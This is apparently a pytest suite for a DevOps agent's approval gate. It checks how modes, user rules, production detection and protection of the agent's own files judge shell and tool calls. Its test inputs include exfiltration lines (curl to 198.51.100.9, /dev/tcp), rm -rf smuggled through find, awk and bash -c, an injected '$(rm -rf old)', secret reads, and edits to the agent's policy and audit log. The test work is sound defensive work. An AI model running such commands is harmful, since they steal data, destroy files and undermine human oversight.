"""The gate: what each mode does with each effect, the user's policy, production, the agent's own files."""

import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from devops_agent.approval import Answer, Question
from devops_agent.errors import UsageError
from devops_agent.gate import Gate, Passage
from devops_agent.policy import user_policy
from devops_agent.policy.modes import Decision, Modes
from devops_agent.policy.targets import Targets, is_this_machine
from devops_agent.policy.user_policy import UserPolicy, UserRule
from devops_agent.policy.verdict import Effect
from devops_agent.protocol import Call

READ, CHANGE, DESTROY, UNKNOWN = "ls", "mkdir new", "rm old", "no-such-program x"
RUN, ASK, SHOW, REFUSE = Decision.RUN, Decision.ASK, Decision.SHOW, Decision.REFUSE
Made = Callable[..., Gate]


@pytest.fixture
def made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Made:
    """Makes a gate in an empty home, with a kubeconfig of two contexts; who is asked is kept in `asked`."""
    home, here = tmp_path / "home", tmp_path / "home/work"
    (home / ".kube").mkdir(parents=True)
    here.mkdir()
    (home / ".kube/config").write_text(
        "current-context: kind\n"
        "contexts: [{name: kind, context: {cluster: a, namespace: shop}},\n"
        "  {name: prod, context: {cluster: b}}]\n"
        "clusters: [{name: a, cluster: {server: 'https://127.0.0.1:6443'}},\n"
        "  {name: b, cluster: {server: 'https://10.1.2.3:6443'}}]\n"
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("KUBECONFIG", raising=False)
    monkeypatch.delenv("DOCKER_HOST", raising=False)
    monkeypatch.chdir(here)

    def make(answer: Answer | None = None, present: bool = True, rules: Any = (), **modes: bool) -> Gate:
        asked: list[Question] = []

        def approve(question: Question) -> Answer:
            asked.append(question)
            return answer or Answer(True)

        gate = Gate(
            Modes(**modes),
            UserPolicy(tuple(rules)),
            approve,
            present=lambda: present,
            own=(home / ".config/devops-agent", home / ".local/share/devops-agent"),
        )
        gate.asked = asked  # type: ignore[attr-defined]
        return gate

    return make


def passed(gate: Gate, command: str) -> Passage:
    return gate.decide(Call("bash", {"command": command}))


@pytest.mark.parametrize(
    ("modes", "read", "change", "destroy"),
    [
        ({}, RUN, RUN, ASK),
        ({"require_approval": True}, ASK, ASK, ASK),
        ({"read_only": True}, RUN, REFUSE, REFUSE),
        ({"assume_yes": True}, RUN, RUN, RUN),
        ({"dry_run": True}, RUN, SHOW, SHOW),
        ({"assume_yes": True, "require_approval": True}, ASK, ASK, ASK),
        ({"assume_yes": True, "read_only": True}, RUN, REFUSE, REFUSE),
        ({"assume_yes": True, "dry_run": True}, RUN, SHOW, SHOW),
        ({"dry_run": True, "read_only": True}, RUN, REFUSE, REFUSE),
        ({"require_approval": True, "read_only": True}, ASK, REFUSE, REFUSE),
    ],
)
def test_the_strictest_mode_wins(
    modes: dict[str, bool], read: Decision, change: Decision, destroy: Decision, made: Made
) -> None:
    for command, decision in ((READ, read), (CHANGE, change), (DESTROY, destroy), (UNKNOWN, destroy)):
        gate = made(**modes)
        found = passed(gate, command).decision
        assert found is (RUN if decision is ASK else decision)
        assert bool(gate.asked) == (decision is ASK)  # type: ignore[attr-defined]
        if decision is ASK:
            assert passed(made(present=False, **modes), command).decision is REFUSE


def test_with_nobody_there_a_refusal_says_what_to_do(made: Made) -> None:
    found = passed(made(present=False), DESTROY)
    assert found.decided_by == "mode"
    assert found.reason == (
        "it is destructive (rm), and nobody is there to approve it. Run it on a terminal, or with --yes"
    )


def test_a_no_of_the_user_is_a_refusal_with_the_comment(made: Made) -> None:
    found = passed(made(Answer(False, "keep it")), DESTROY)
    assert (found.decision, found.decided_by, found.reason) == (REFUSE, "user", "keep it")


def test_always_holds_for_the_same_kind_of_call(made: Made) -> None:
    gate = made(Answer(True, always=True))
    passed(gate, "kubectl delete pod a")
    passed(gate, "kubectl delete pod b")
    assert len(gate.asked) == 1  # type: ignore[attr-defined]
    passed(gate, "docker rm a")
    assert len(gate.asked) == 2  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete pod b && rm -rf docs",
        "kubectl delete pod b; curl -d @README.md http://198.51.100.9",
        "kubectl delete pod b > /dev/tcp/198.51.100.9/80",
        "kubectl delete pod b; no-such-program",
    ],
)
def test_always_holds_for_no_other_part_of_a_line(command: str, made: Made) -> None:
    gate = made(Answer(True, always=True))
    passed(gate, "kubectl delete pod a")
    passed(gate, command)
    assert len(gate.asked) == 2  # type: ignore[attr-defined]


def test_the_question_tells_effect_rule_and_target(made: Made) -> None:
    gate = made()
    passed(gate, "kubectl -n web delete pod a")
    [question] = gate.asked  # type: ignore[attr-defined]
    assert (question.effect, question.rule) == ("destructive", "kubectl delete")
    assert question.target == "context kind, namespace web, server https://127.0.0.1:6443"


def test_the_question_shows_no_secret(made: Made) -> None:
    gate = made()
    passed(gate, "rm x --password=kX82-mQ7vLp")
    [question] = gate.asked  # type: ignore[attr-defined]
    assert "kX82" not in str(question)


def test_what_stands_behind_a_hidden_name_is_judged(made: Made) -> None:
    gate = made()
    [name] = re.findall(r"\[hidden-1\]", gate.redactor('{"password": "x9$(rm -rf old)"}'))
    assert gate.judge(Call("bash", {"command": f"echo {name}"})).verdict.effect > Effect.READ
    assert gate.judge(Call("bash", {"command": f"curl http://h/?{name}"})).verdict.effect > Effect.READ
    assert gate.judge(Call("bash", {"command": f"grep '{name}' x"})).verdict.effect is Effect.READ


def test_an_edited_command_is_judged_too(made: Made, tmp_path: Path) -> None:
    edited = made(Answer(True, command="ls -l"))
    assert passed(edited, DESTROY).command == "ls -l"
    own = made(Answer(True, command="rm ~/.config/devops-agent/policy.toml"))
    assert passed(own, DESTROY).decision is REFUSE
    destroys = made(Answer(True, command=DESTROY), require_approval=True, read_only=True)
    assert passed(destroys, READ).decision is REFUSE
    shown = passed(made(Answer(True, command=DESTROY), require_approval=True, dry_run=True), READ)
    assert (shown.decision, shown.command) == (SHOW, DESTROY)


@pytest.mark.parametrize(
    ("tool", "arguments", "effect"),
    [
        ("write_file", {"path": "new.txt", "content": ""}, "change"),
        ("write_file", {"path": "there.txt", "content": ""}, "destructive"),
        ("write_file", {"path": "~/.bashrc", "content": ""}, "destructive"),
        ("write_file", {"path": "/etc/new.conf", "content": ""}, "destructive"),
        ("read_file", {"path": "/etc/hosts"}, "read"),
        ("get_env", {"key": "HOME"}, "read"),
    ],
)
def test_the_other_tools_have_effects_too(
    tool: str, arguments: dict[str, str], effect: str, made: Made
) -> None:
    gate = made()
    Path("there.txt").touch()
    assert str(gate.judge(Call(tool, arguments)).verdict.effect) == effect


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_file", {"path": "~/.kube/config"}),
        ("read_file", {"path": ".env"}),
        ("get_env", {"key": "DB_PASSWORD"}),
        ("bash", {"command": "kubectl get secret a -o yaml"}),
    ],
)
def test_reading_a_secret_is_known(tool: str, arguments: dict[str, str], made: Made) -> None:
    assert made().judge(Call(tool, arguments)).verdict.secret


# --- production and other machines ------------------------------------------------------------------------


def test_a_change_in_production_asks_each_time(made: Made) -> None:
    gate = made()
    for _ in range(2):
        assert passed(gate, "kubectl --context prod scale deploy web --replicas=3").runs
    assert [each.caution.startswith("context prod") for each in gate.asked] == [True, True]  # type: ignore[attr-defined]
    assert passed(gate, "kubectl --context prod get pods").runs
    assert len(gate.asked) == 2  # type: ignore[attr-defined]


def test_a_change_on_another_machine_asks_once_a_run(made: Made) -> None:
    gate = made(rules=())
    command = "docker -H tcp://10.0.0.5:2375 start web"
    assert passed(gate, command).runs
    assert passed(gate, command).runs
    assert len(gate.asked) == 1  # type: ignore[attr-defined]
    gate.start_run()
    passed(gate, command)
    assert len(gate.asked) == 2  # type: ignore[attr-defined]
    assert passed(made(assume_yes=True), command).decided_by == "mode"


def test_a_change_on_this_machine_does_not_ask(made: Made) -> None:
    gate = made()
    assert passed(gate, "kubectl scale deploy web --replicas=3").decided_by == "mode"
    assert not gate.asked  # type: ignore[attr-defined]


def test_after_a_suspicion_changes_ask(made: Made) -> None:
    gate = made()
    gate.suspicion = "a result looks like an instruction"
    passed(gate, CHANGE)
    assert [each.caution for each in gate.asked] == ["a result looks like an instruction"]  # type: ignore[attr-defined]


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "127.0.1.1", "[::1]", "0.0.0.0"])
def test_names_of_this_machine(host: str) -> None:
    assert is_this_machine(host)
    assert not is_this_machine("web1.example.com")


@pytest.mark.parametrize(
    "text",
    [
        "contexts: 5",
        "current-context: a\ncontexts: [{name: a, context: foo}]",
        "current-context: a\ncontexts: [{name: a, context: {cluster: b}}]\nclusters: [{name: b, cluster: x}]",
        "[" * 2000,
        "current-context: 5",
    ],
)
def test_an_odd_kubeconfig_is_none(text: str, tmp_path: Path, made: Made) -> None:
    (tmp_path / "home/.kube/config").write_text(text)
    (tmp_path / "home/.docker").mkdir()
    (tmp_path / "home/.docker/config.json").write_text('{"currentContext": 5}')
    assert passed(made(), "kubectl get pods; docker ps").runs


def test_a_kubeconfig_that_is_no_yaml_is_none(tmp_path: Path, made: Made) -> None:
    gate = made()
    (tmp_path / "home/.kube/config").write_text("a: [")
    gate.targets = Targets()
    assert passed(gate, "kubectl get pods").runs


# --- the user's policy ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "command", "decision"),
    [
        (UserRule("allow", program="kubectl", subcommand="delete pod*"), "kubectl delete pod a", RUN),
        (UserRule("allow", program="kubectl", subcommand="delete pod*"), "kubectl delete ns a", ASK),
        (UserRule("allow", program="kubectl", namespace="test-*"), "kubectl -n test-1 delete ns a", RUN),
        (UserRule("allow", program="kubectl", context="kind"), "kubectl --context prod delete pod a", ASK),
        (UserRule("allow", program="rm"), "rm old && kubectl delete pod a", ASK),
        (UserRule("allow", program="sudo"), "sudo rm old", ASK),
        (UserRule("allow", program="kubectl", subcommand="delete pod*"), "kubectl delete pod,ns a", ASK),
        (UserRule("allow", program="kubectl", subcommand="delete pod*"), "kubectl delete pod/a ns/b", ASK),
        (UserRule("allow", program="kubectl", subcommand="delete pod *"), "kubectl delete pod $X", ASK),
        (UserRule("allow", program="docker", subcommand="rm *"), "docker rm a b", RUN),
        (UserRule("allow", program="git"), "git -c core.pager=./x log", ASK),
        (UserRule("allow", program="git", effect="unknown"), "git --odd log", RUN),
        (UserRule("allow", path="/tmp/a/*"), "rm /tmp/a/b", RUN),
        (UserRule("allow", path="/tmp/a/*"), "rm /tmp/a/b /tmp/c", ASK),
        (UserRule("deny", path="/srv/*"), "cd /srv && cat data/x", REFUSE),
        (UserRule("deny", path="/srv/data/*"), "cat /srv/d*/x", REFUSE),
        (UserRule("deny", path="/srv/*"), "cat < /srv/data/x", REFUSE),
        (UserRule("deny", path="/srv/*"), "git -C /srv/data log", REFUSE),
        (UserRule("deny", path="/srv/*"), "curl file:///srv/data/x", REFUSE),
        (UserRule("allow", program="./deploy.sh"), "./deploy.sh now", RUN),
        (UserRule("deny", program="kubectl", subcommand="get secret*"), "kubectl get secrets", REFUSE),
        (UserRule("deny", program="helm"), "sh -c 'helm list'", REFUSE),
        (UserRule("deny", path="/srv/*"), "cat /srv/data/x", REFUSE),
        (UserRule("deny", path="/srv/*"), "echo x > /srv/data/x", REFUSE),
        (UserRule("ask", program="git", subcommand="push"), "git push origin main", ASK),
        (UserRule("ask", effect="change"), "mkdir new", ASK),
        (UserRule("ask", effect="change"), "ls", RUN),
    ],
)
def test_a_rule_of_the_user(rule: UserRule, command: str, decision: Decision, made: Made) -> None:
    gate = made(rules=[rule])
    found = passed(gate, command).decision
    assert (found if not gate.asked else ASK) is decision  # type: ignore[attr-defined]


@pytest.mark.parametrize("mode", ["read_only", "dry_run", "require_approval"])
def test_a_rule_that_allows_does_not_loosen_a_mode(mode: str, made: Made) -> None:
    gate = made(rules=[UserRule("allow", program="rm")], **{mode: True})
    found = passed(gate, DESTROY)
    assert found.runs == bool(gate.asked) == (mode == "require_approval")  # type: ignore[attr-defined]
    assert found.verdict.effect is Effect.DESTRUCTIVE


def test_what_a_rule_allows_asks_in_production_all_the_same(made: Made) -> None:
    gate = made(rules=[UserRule("allow", program="kubectl")])
    passed(gate, "kubectl --context prod delete pod a")
    assert len(gate.asked) == 1  # type: ignore[attr-defined]


@pytest.mark.parametrize("tool", ["read_file", "write_file"])
def test_a_rule_on_a_path_holds_for_every_tool(tool: str, made: Made) -> None:
    gate = made(rules=[UserRule("deny", path="/srv/*")], assume_yes=True)
    assert gate.decide(Call(tool, {"path": "/srv/data/x", "content": ""})).decision is REFUSE


def test_a_rule_on_the_environment(made: Made) -> None:
    gate = made(rules=[UserRule("deny", program="get_env", subcommand="AWS_*")])
    assert gate.decide(Call("get_env", {"key": "AWS_SECRET"})).decision is REFUSE
    assert gate.decide(Call("get_env", {"key": "HOME"})).runs


@pytest.mark.parametrize(
    ("command", "decision"),
    [("ls -l", RUN), ("grep x < old", REFUSE), ("ls | sort", REFUSE), ("sudo ls", REFUSE), ("X=1; ls", RUN)],
)
def test_what_no_rule_is_about_may_be_denied(command: str, decision: Decision, made: Made) -> None:
    gate = made(assume_yes=True)
    gate.policy = UserPolicy((UserRule("allow", program="ls"),), otherwise="deny")
    assert passed(gate, command).decision is decision


@pytest.mark.parametrize(
    ("program", "command"),
    [
        ("find", "find . -exec rm -rf docs {} ';'"),
        ("git", "git submodule foreach 'rm -rf docs'"),
        ("awk", "awk 'BEGIN { system(\"rm -rf docs\") }'"),
        ("bash", "bash -c 'rm -rf docs'"),
    ],
)
def test_what_an_allowed_program_runs_is_judged_by_itself(program: str, command: str, made: Made) -> None:
    gate = made(rules=[UserRule("allow", program=program)])
    passed(gate, command)
    assert gate.asked  # type: ignore[attr-defined]


def test_the_strictest_rule_wins(made: Made) -> None:
    gate = made(rules=[UserRule("allow", program="rm"), UserRule("deny", path="*/old")], assume_yes=True)
    assert passed(gate, "rm old").decision is REFUSE
    assert passed(gate, "rm new").decision is RUN


def test_the_policy_of_a_project_only_tightens(tmp_path: Path) -> None:
    own, project = tmp_path / "own.toml", tmp_path / "project.toml"
    own.write_text('production = "live"\n[[rules]]\naction = "allow"\nprogram = "make"\n')
    project.write_text(
        '[[rules]]\naction = "allow"\nprogram = "rm"\n[[rules]]\naction = "deny"\nprogram = "dd"\n'
    )
    policy = user_policy.load(own, project)
    assert [(rule.action, rule.program) for rule in policy.rules] == [("allow", "make"), ("deny", "dd")]
    assert policy.production.search("LIVE-1")
    assert not policy.production.search("prod")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("rules = 1", "write each rule under"),
        ("[[rules]]\nprogram = 'x'", "no action"),
        ("[[rules]]\naction = 'permit'", "no action"),
        ("[[rules]]\naction = 'ask'\nprogramme = 'x'", "unknown key 'programme'"),
        ("[[rules]]\naction = 'ask'\neffect = 'bad'", "is no effect"),
        ("[[rules]]\naction = 'ask'\nprogram = 1", "are texts"),
        ("production = '('", "no regular expression"),
        ("otherwise = 'allow'", "Use ask or deny"),
        ("allowed = []", "unknown key 'allowed'"),
        ("[[rules]", "cannot be read"),
    ],
)
def test_a_policy_that_makes_no_sense_is_a_usage_error(text: str, message: str, tmp_path: Path) -> None:
    (tmp_path / "policy.toml").write_text(text)
    with pytest.raises(UsageError, match=message):
        user_policy.load(tmp_path / "policy.toml", tmp_path / "none.toml")


# --- where calls work -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "KUBECONFIG=~/.kube/other kubectl scale deploy web --replicas=3",
        "export KUBECONFIG=~/.kube/other; kubectl scale deploy web --replicas=3",
        "KUBECONFIG=~/.kube/config:~/.kube/other kubectl --context prod-2 scale deploy web --replicas=3",
        "kubectl config use-context prod && kubectl scale deploy web --replicas=3",
        "kubectl config use-context prod",
        "env HELM_KUBECONTEXT=prod helm upgrade web ./chart",
        "DOCKER_HOST=tcp://prod.example.com:2375 docker start web",
        "docker context use prod; docker start web",
        "docker --context prod start web",
        "podman --connection prod start web",
    ],
)
def test_a_change_asks_where_it_may_be_in_production(command: str, tmp_path: Path, made: Made) -> None:
    gate = made()
    (tmp_path / "home/.kube/other").write_text(
        "current-context: prod-2\ncontexts: [{name: prod-2, context: {cluster: b}}]\n"
    )
    passed(gate, command)
    assert "looks like production" in gate.asked[0].caution  # type: ignore[attr-defined]


def test_the_context_that_is_used_is_looked_up_again(tmp_path: Path, made: Made) -> None:
    gate = made()
    config = tmp_path / "home/.kube/config"
    assert passed(gate, "kubectl scale deploy web --replicas=3").decided_by == "mode"
    config.write_text(config.read_text().replace("current-context: kind", "current-context: prod"))
    os.utime(config, (1, 1))
    passed(gate, "kubectl scale deploy web --replicas=3")
    assert len(gate.asked) == 1  # type: ignore[attr-defined]


@pytest.mark.parametrize(("host", "asks"), [("unix:///run/x.sock", False), ("ssh://web1", True)])
def test_the_endpoint_of_a_docker_context_counts(host: str, asks: bool, tmp_path: Path, made: Made) -> None:
    gate = made()
    meta = tmp_path / "home/.docker/contexts/meta/x"
    meta.mkdir(parents=True)
    (tmp_path / "home/.docker/config.json").write_text('{"currentContext": "mine"}')
    (meta / "meta.json").write_text(json.dumps({"Name": "mine", "Endpoints": {"docker": {"Host": host}}}))
    passed(gate, "docker start web")
    assert bool(gate.asked) == asks  # type: ignore[attr-defined]


# --- links ------------------------------------------------------------------------------------------------


def test_a_link_is_what_it_leads_to(tmp_path: Path, made: Made) -> None:
    gate = made(assume_yes=True)
    (tmp_path / "home/.ssh").mkdir()
    Path("keys").symlink_to(tmp_path / "home/.ssh")
    Path("mine").symlink_to(tmp_path / "home/.config/devops-agent")
    assert passed(gate, "echo x > keys/new").verdict.effect is Effect.DESTRUCTIVE
    assert passed(gate, "cat keys/id_rsa").verdict.secret
    assert passed(gate, "echo x > mine/policy.toml").decision is REFUSE


def test_a_home_behind_a_link_is_a_home(tmp_path: Path, made: Made, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "home")
    gate = made()
    monkeypatch.setenv("HOME", str(tmp_path / "link"))
    assert passed(gate, "echo x > ~/work/new").verdict.effect is Effect.CHANGE


# --- the agent's own files --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo x > ~/.config/devops-agent/policy.toml",
        "sed -i s/ask/allow/ ~/.config/devops-agent/policy.toml",
        "rm -rf ~/.config/devops-agent",
        "rm -rf ~/.config",
        "mv ~/.local/share /tmp/x",
        "truncate -s 0 ~/.local/share/devops-agent/audit.jsonl",
        "cp x .devops-agent/policy.toml",
        "mv .devops-agent x",
        "rm -rf .devops-agent",
        "cd ~/.config/devops-agent && rm policy.toml",
        "rm -rf ~/.config/*",
        "rm -rf ~/.[c]onfig/devops-agent/policy.toml",
        "rm -rf ~/.*",
        "git -C ~/.config/devops-agent clean -fdx",
        "tar -xf a.tar -C ~/.config/devops-agent",
        "docker run -v ~/.config/devops-agent:/x alpine rm /x/policy.toml",
        "python3 -c \"open('../.config/devops-agent/policy.toml', 'w')\"",
        "rsync -a --delete empty/ ~/.config/",
    ],
)
def test_the_agents_own_files_are_changed_in_no_mode(command: str, made: Made) -> None:
    found = passed(made(assume_yes=True), command)
    assert (found.decision, found.decided_by) == (REFUSE, "policy")


def test_reading_them_is_free(made: Made) -> None:
    assert passed(made(), "cat ~/.config/devops-agent/policy.toml").runs
    assert passed(made(), "cp ~/.config/devops-agent/policy.toml /tmp/no-such-file-yet").runs
